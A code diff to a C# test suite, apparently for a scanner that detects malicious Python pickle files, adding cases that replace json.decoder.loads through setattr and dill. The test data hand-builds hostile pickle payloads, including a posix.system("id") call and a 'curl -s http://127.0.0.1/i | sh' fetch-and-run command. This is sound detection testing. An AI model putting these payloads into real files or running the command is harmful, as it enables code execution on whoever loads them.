@@ -34,6 +34,8 @@ public sealed class MaliciousPickleSpecs
         { "stream behind a broken one", Of(0x80, 2, "N", 0xff, 0xff, Call), "posix.system(\"id\")" },
         { "function by value", Of(0x80, 4, "ccloudpickle.cloudpickle\n_make_function\n)R)R."), "calls a function whose code is in the file: cloudpickle.cloudpickle._make_function()()" },
         { "state for a global", Of(0x80, 4, "cjson\ndecoder\n}", Text("loads"), "NsbN."), "changes json.decoder in place: {\"loads\": None}" },
+        { "a library's function replaced", Of(0x80, 4, "cbuiltins\nsetattr\n(cjson\ndecoder\n", Text("loads"), "NtR."), "changes json.decoder in place: (json.decoder, \"loads\", None)" },
+        { "a module's function replaced, by way of dill", Of(0x80, 4, "cdill._dill\n_setattr\n(", "cbuiltins\n__import__\n", Text("json"), 0x85, "R", Text("loads"), "NtR."), "changes json in place: (json, \"loads\", None)" },
         { "shell for an unknown callable", Of(0x80, 4, "cacme.boot\nrun\n", Text("curl -s http://127.0.0.1/i | sh"), 0x85, "R."), "passes a shell command to an unknown callable: acme.boot.run(\"curl -s http://127.0.0.1/i | sh\")" },
     };
 
@@ -54,6 +56,11 @@ public sealed class MaliciousPickleSpecs
         var header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n";
         Evidence(Of(0x93, "NUMPY", 1, 0, header.Length, 0, header, content)).ShouldContain(evidence, attack);
     }
+
+    [Fact]
+    public void Takes_the_filled_cell_of_a_closure_for_what_it_is() =>
+        Read(Of(0x80, 4, "cbuiltins\nsetattr\n(cdill._dill\n_create_cell\nN", 0x85, "R", Text("cell_contents"), "NtR."))
+            .Findings.ShouldAllBe(finding => finding.Severity != Severity.Dangerous);
 
     [Fact]
     public void Finds_the_attack_in_a_compressed_file()
